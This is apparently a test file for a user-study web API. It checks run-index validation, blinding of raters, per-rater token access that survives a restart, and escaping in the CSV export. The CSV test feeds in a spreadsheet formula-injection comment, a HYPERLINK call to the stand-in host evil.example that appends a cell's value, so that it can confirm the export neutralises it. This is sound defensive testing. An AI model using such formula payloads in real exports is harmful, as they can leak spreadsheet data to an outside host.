/**
 * A user study through the real CLI studio's API: what a rater's link opens (that rater's rating of that
 * study, nothing else, and still after a restart on the same --study-dir; the owner's token is never in
 * it), what creating a study accepts, and what the CSV export does with text a spreadsheet would run.
 */
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { RATER_SECRET_FILE } from '../../src/studio/rater-token.js';
import { apiCall, makeRuns, N_ROWS, row, type Studio, startStudio } from './helpers.js';

let root: string | undefined;
const started: Studio[] = [];
afterAll(async () => {
  for (const s of started) await s.stop();
  if (root !== undefined) await rm(root, { recursive: true, force: true });
});

/** A request with a bearer token; its status. */
async function statusWith(base: string, token: string, path: string, body?: unknown): Promise<number> {
  const res = await fetch(`${base}${path}`, {
    method: body === undefined ? 'GET' : 'POST',
    headers: {
      authorization: `Bearer ${token}`,
      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  await res.arrayBuffer();
  return res.status;
}

const answer = { item: row(0).id, satisfaction1: 4, satisfaction2: 2, preference: 1 };

describe('creating a study', () => {
  it('takes the runs as JSON integers only ("" or "0x1" is not a run index)', async () => {
    root ??= await mkdtemp(join(tmpdir(), 'gtalign-study-api-'));
    const runs = await makeRuns(join(root, 'create'));
    const studio = await startStudio([runs.a, runs.b, '--study-dir', join(root, 'create', 'studies')]);
    started.push(studio);
    for (const [runA, runB] of [
      ['', 1],
      [0, '0x1'],
      [null, 1],
      [true, 0],
      [0, 1.5],
      ['0', 1],
    ]) {
      const res = await apiCall<{ error: { message: string } }>(studio, '/api/studies', {
        name: 'n',
        runA,
        runB,
      });
      expect(res.status, JSON.stringify([runA, runB])).toBe(400);
      expect(res.json.error.message).toBe('runA, runB: indexes of the loaded runs');
    }
    expect((await apiCall(studio, '/api/studies', { name: 'n', runA: 1, runB: 0 })).status).toBe(201);
  });
});

describe('a study of two runs', () => {
  it('leaves out a row whose reply was cut short before its <response> block (its thinking and matrix would unblind the rater)', async () => {
    root ??= await mkdtemp(join(tmpdir(), 'gtalign-study-api-'));
    const runs = await makeRuns(join(root, 'cut-short'));
    // Arm B's output of row 0 ran out of tokens after its matrix: blocks, but no <response>.
    const results = join(runs.b, 'results.jsonl');
    const records = (await readFile(results, 'utf8'))
      .split('\n')
      .filter((l) => l !== '')
      .map((l) => JSON.parse(l) as { id: string; response: string });
    const cut = records.find((r) => r.id === row(0).id)!;
    cut.response = cut.response.slice(0, cut.response.indexOf('<response>'));
    expect(cut.response).toContain('<payoff>');
    await writeFile(results, records.map((r) => `${JSON.stringify(r)}\n`).join(''));
    const studio = await startStudio([runs.a, runs.b, '--study-dir', join(root, 'cut-short', 'studies')]);
    started.push(studio);
    const made = await apiCall<{ id: string; items: number }>(studio, '/api/studies', {
      name: 'cut short',
      runA: 0,
      runB: 1,
    });
    expect(made.json.items).toBe(N_ROWS - 1);
    const plan = await apiCall<{ items: { item: string; reply1: string; reply2: string }[] }>(
      studio,
      `/api/rater?id=${made.json.id}&rater=r1`,
    );
    expect(plan.json.items.map((i) => i.item)).not.toContain(row(0).id);
    for (const i of plan.json.items) expect(`${i.reply1}${i.reply2}`).not.toMatch(/<|payoff/);
  });
});

describe('the CSV export', () => {
  it('makes text a spreadsheet would run as a formula plain text; the JSONL keeps it exact', async () => {
    root ??= await mkdtemp(join(tmpdir(), 'gtalign-study-api-'));
    const runs = await makeRuns(join(root, 'csv'));
    const studio = await startStudio([runs.a, runs.b, '--study-dir', join(root, 'csv', 'studies')]);
    started.push(studio);
    const id = (await apiCall<{ id: string }>(studio, '/api/studies', { name: 'csv', runA: 0, runB: 1 })).json
      .id;
    const comments = ['=HYPERLINK("http://evil.example/?"&A2,"click")', '+1', '-2 items', '@SUM(A1)', 'fine'];
    for (const [i, comment] of comments.entries()) {
      const rated = await apiCall(studio, `/api/rate?id=${id}&rater=r${i}`, { ...answer, comment });
      expect(rated.status).toBe(200);
    }
    const get = async (format: string) =>
      (
        await fetch(`${studio.base}/api/export?id=${id}&format=${format}`, {
          headers: { authorization: `Bearer ${studio.token}` },
        })
      ).text();
    const csv = await get('csv');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""click"")"`);
    for (const cell of [",'+1,", ",'-2 items,", ",'@SUM(A1),", ',fine,']) expect(csv).toContain(cell);
    const jsonl = (await get('jsonl'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l).comment);
    expect(jsonl.sort()).toEqual([...comments].sort());
  });
});

describe("a rater's link", () => {
  it('opens that rater’s rating of that study only, and keeps working after a restart', async () => {
    root ??= await mkdtemp(join(tmpdir(), 'gtalign-study-api-'));
    const runs = await makeRuns(join(root, 'access'));
    const studyDir = join(root, 'access', 'studies');
    const args = [runs.a, runs.b, '--study-dir', studyDir];
    const first = await startStudio(args);
    started.push(first);
    const made = await apiCall<{ id: string }>(first, '/api/studies', { name: 'access', runA: 0, runB: 1 });
    expect(made.status).toBe(201);
    const id = made.json.id;
    const linkOf = async (rater: string) =>
      (await apiCall<{ path: string; token: string }>(first, `/api/rater-link?id=${id}&rater=${rater}`)).json;
    const alice = await linkOf('alice');
    expect(alice.path).not.toContain(first.token);
    expect(alice.path).toBe(`/?study=${id}&rater=alice&token=${alice.token}#/study/${id}/rate/alice`);
    expect((await fetch(`${first.base}${alice.path}`)).status).toBe(200);
    // The same token for another rater or study does not open the page.
    expect((await fetch(`${first.base}/?study=${id}&rater=bob&token=${alice.token}`)).status).toBe(401);
    expect((await fetch(`${first.base}/?token=${alice.token}`)).status).toBe(401);

    // Her own rating: yes. Anyone else's, or the owner's pages and exports (which name the arms): no.
    expect(await statusWith(first.base, alice.token, `/api/rater?id=${id}&rater=alice`)).toBe(200);
    expect(await statusWith(first.base, alice.token, `/api/rate?id=${id}&rater=alice`, answer)).toBe(200);
    expect(await statusWith(first.base, alice.token, `/api/rate?id=${id}&rater=bob`, answer)).toBe(401);
    // A second, different answer (another tab) is not stored; the reply says which answer stands.
    const again = await fetch(`${first.base}/api/rate?id=${id}&rater=alice`, {
      method: 'POST',
      headers: { authorization: `Bearer ${alice.token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ ...answer, satisfaction1: 1, satisfaction2: 5, preference: 2 }),
    });
    expect(await again.json()).toEqual({
      stored: false,
      done: 1,
      kept: { satisfaction1: 4, satisfaction2: 2, preference: 1 },
    });
    expect(await statusWith(first.base, alice.token, `/api/rater?id=${id}&rater=bob`)).toBe(401);
    for (const path of [
      '/api/studies',
      '/api/runs',
      '/api/config',
      `/api/study?id=${id}`,
      `/api/analysis?id=${id}`,
      `/api/export?id=${id}&format=jsonl`,
      `/api/rater-link?id=${id}&rater=bob`,
    ])
      expect(await statusWith(first.base, alice.token, path), path).toBe(401);
    expect(await statusWith(first.base, alice.token, '/api/studies', { name: 'x', runA: 0, runB: 1 })).toBe(
      401,
    );
    // The owner still rates for anyone (as before).
    expect(await statusWith(first.base, first.token, `/api/rater?id=${id}&rater=bob`)).toBe(200);

    // The secret that makes the tokens is kept beside the studies, readable by its owner only.
    expect((await stat(join(studyDir, RATER_SECRET_FILE))).mode & 0o777).toBe(0o600);

    await first.stop();
    const second = await startStudio(args);
    started.push(second);
    expect(second.token).not.toBe(first.token);
    expect((await fetch(`${second.base}${alice.path}`)).status).toBe(200);
    expect(await statusWith(second.base, alice.token, `/api/rater?id=${id}&rater=alice`)).toBe(200);
    const plan = await (
      await fetch(`${second.base}/api/rater?id=${id}&rater=alice`, {
        headers: { authorization: `Bearer ${alice.token}` },
      })
    ).json();
    expect(plan.done).toEqual([row(0).id]);
    // The owner's token of the first run is not kept: the printed URL is the owner's way in.
    expect(await statusWith(second.base, first.token, '/api/studies')).toBe(401);
  });
});
